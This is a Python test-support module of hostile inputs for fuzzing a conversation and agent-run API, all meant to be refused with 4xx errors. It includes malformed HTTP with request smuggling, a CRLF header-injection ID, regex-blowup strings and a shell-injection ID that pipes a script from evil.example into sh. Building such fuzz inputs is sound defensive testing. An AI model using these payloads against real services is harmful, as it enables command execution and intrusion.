"""What the API must refuse with a 4xx, and change nothing for: the hostile input of
tests/fuzz_api.py and tests/api/test_api_edges.py."""

from __future__ import annotations

import json
import random
from collections.abc import Callable
from typing import Any

HOSTILE_TEXT = ["\ud800", "a\udfffb", "\udc00\ud800", "\x00", "a\x00b", "\ufeff", "\ufeffx",
                "\u202eevil", " ", "", "\u3000\n\t", "\U0001f600", '"\\', "x" * 50_000,
                "\n" * 2_000, "\x1f\x1c", "é" * 20_000]
ODD_IDS = ["a%2Fb", "%2F", "x" * 5_000, "%F0%9F%98%80", "%00", "%ff", "%2e%2e", "a%20b",
           "%ED%A0%80", "-", "conv-" + "9" * 300, "a:b@c+d=e", "%0d%0aX-Injected:%201"]
ODD_OFFSETS = ["-1", "abc", "1.5", "1e3", "", " 7 ", str(10**30), "9" * 5_000, "\u0663",
               "0x10", "-0"]
RAW_BODIES = [b"", b"null", b"[]", b'"x"', b"{", b'{"a": ', b"\xff\xfe\xfd",
              b'{"a": "\xed\xa0\x80"}',
              b'{"a": NaN}', b'{"a": Infinity}', b'{"a": 1e400}', b'{"a": ' + b"9" * 5_000 + b"}",
              b"\xef\xbb\xbf{}", '{"a": "é"}'.encode("utf-16"), b"[" * 3_000 + b"]" * 3_000,
              b'{"a": ' + b"[" * 70 + b"]" * 70 + b"}", b"{}" * 1000, bytes(range(256))]
CONTENT_TYPES = ["application/json", "application/json; charset=latin-1", "text/plain",
                 "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
                 "application/vnd.api+json", None]


def nested(depth: int) -> Any:
    value: Any = "leaf"
    for i in range(depth):
        value = [value] if i % 2 else {"k": value}
    return value


def hostile_values(rng: random.Random) -> Any:
    pick = rng.randrange(9)
    if pick == 0:
        return rng.choice(HOSTILE_TEXT)
    if pick == 1:
        return nested(rng.choice([2, 40, 63, 64, 65, 70, 200, 900]))
    if pick == 2:
        return rng.choice([10**300, -(10**30), 2**63, 2**64 + 1, -1, 0, 1.5e308, -0.0, 1e-320])
    if pick == 3:
        return {rng.choice(HOSTILE_TEXT): rng.choice(HOSTILE_TEXT) for _ in range(3)}
    if pick == 4:
        return [rng.choice(HOSTILE_TEXT) for _ in range(rng.randrange(40))]
    if pick == 5:
        return rng.choice([None, True, False, [], {}])
    return random_json(rng, rng.randrange(6))


def random_json(rng: random.Random, depth: int) -> Any:
    kinds: list[Callable[[], Any]] = [
        lambda: None, lambda: rng.random() < 0.5, lambda: rng.randint(-10**6, 10**6),
        lambda: rng.uniform(-1e6, 1e6), lambda: rng.choice(HOSTILE_TEXT[:12]),
        lambda: "".join(chr(rng.randrange(0x20, 0x3000)) for _ in range(rng.randrange(12))),
    ]
    if depth > 0:
        kinds += [lambda: [random_json(rng, depth - 1) for _ in range(rng.randrange(4))],
                  lambda: {random_json_key(rng): random_json(rng, depth - 1)
                           for _ in range(rng.randrange(4))}]
    return rng.choice(kinds)()


def random_json_key(rng: random.Random) -> str:
    return rng.choice(["prompt", "text", "call_ids", "all", "args", "values", "id", "reason",
                       "seen", "approver", "threadId", rng.choice(HOSTILE_TEXT[:12])])


# A valid body for each body route, and the AG-UI run's (the fuzzer starts from them and breaks
# one field at a time).
VALID_BODIES: dict[str, dict[str, Any]] = {
    "/conversations": {"prompt": "hello", "one_shot": True},
    "/conversations/{cid}/messages": {"text": "hello"},
    "/conversations/{cid}/confirm": {"call_ids": ["call_1"], "args": {"title": "t"}},
    "/conversations/{cid}/reject": {"call_ids": ["call_1"], "reason": "no"},
    "/conversations/{cid}/answer": {"values": ["yes"]},
    "/conversations/{cid}/end": {},
    "/agui": {"threadId": "t", "runId": "r", "state": {}, "messages": [], "tools": [],
              "context": [], "forwardedProps": {}},
}
# One field of each body, in a place where text must be Unicode: a lone surrogate there is a 422.
TEXT_FIELDS = {"/conversations": ("prompt",), "/conversations/{cid}/messages": ("text",),
               "/conversations/{cid}/confirm": ("call_ids", 0),
               "/conversations/{cid}/reject": ("reason",),
               "/conversations/{cid}/answer": ("values", 0)}


def hostile_bodies(path: str, **fields: Any) -> list[bytes]:
    """The bodies every route must refuse with a 422 and nothing changed: what the JSON parser
    cannot take, and text or nesting that no Temporal payload can carry (in the route's valid body,
    with `fields`)."""
    valid = {**VALID_BODIES[path], **fields}
    # all but what is valid JSON of the right type for some route (`{}` ends a conversation)
    bodies = [raw for raw in RAW_BODIES if raw not in (b"\xef\xbb\xbf{}", b"null", b"")]
    with_text = json.loads(json.dumps(valid))
    where, *index = TEXT_FIELDS.get(path, ("surplus",))
    for value in ["\ud800", "x\udfffy"]:
        if index:
            with_text[where][index[0]] = value
        else:
            with_text[where] = value
        bodies.append(json.dumps(with_text).encode())
    bodies.append(json.dumps({**valid, "deep": nested(100)}).encode())
    return bodies


# Malformed HTTP: uvicorn answers these itself, and must do so in one log line each.
RAW_REQUESTS = [
    b"GET /conversations/\xff\xfe HTTP/1.1\r\nHost: {host}\r\n\r\n",
    b"GET /config HTTP/1.1\r\nHost: {host}\r\nX-Bad: a\x00b\r\n\r\n",
    b"GET /config HTTP/1.0\r\n\r\n",
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
    b"GET /config HTTP/1.1\r\nHost: {host}\r\nX-Big: " + b"a" * 100_000 + b"\r\n\r\n",
    (b"POST /conversations HTTP/1.1\r\nHost: {host}\r\nContent-Length: 5\r\n"
     b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n"),
    b"POST /conversations HTTP/1.1\r\nHost: {host}\r\nContent-Length: -1\r\n\r\n",
    b"GET / HTTP/9.9\r\nHost: {host}\r\n\r\n",
    b"GET /conversations/a b HTTP/1.1\r\nHost: {host}\r\n\r\n",
]


POISON_ANSWER = "```\n" + "\n" * 5000 + "x"  # as long for the typed answer's fence


POISON_REPLY = "```" + " " * 5000 + "x"  # 35 s for `^```(?:json)?\s*(.*?)\s*```$`


SHELL_ID = "x;curl -s evil.example/p|sh;#"


EVIL = "a" * 40 + "!"
